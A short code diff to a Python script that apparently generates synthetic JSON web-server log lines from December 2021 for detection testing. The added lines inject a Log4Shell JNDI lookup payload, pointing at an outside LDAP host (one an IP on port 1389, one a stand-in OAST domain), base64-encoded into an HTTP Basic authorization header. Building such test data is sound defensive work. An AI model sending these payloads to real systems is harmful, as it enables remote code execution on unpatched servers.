@@ -90,6 +90,8 @@ def main():
             else:
                 auth = ""
                 if payload:
+                    if not payload.startswith("${"):  # the application decodes base64, not URL/\u escapes
+                        payload = "${jndi:ldap://%s/b}" % rng.choice(("45.83.193.150:1389", "b64.oast.example"))
                     auth = ', "authorization": "Basic %s"' % base64.b64encode(
                         ("admin:" + payload).encode()).decode()
                 line = ('{"@timestamp":"2021-12-%02dT%02d:%02d:%02d.%03dZ","client_ip":"%s","method":"POST",'
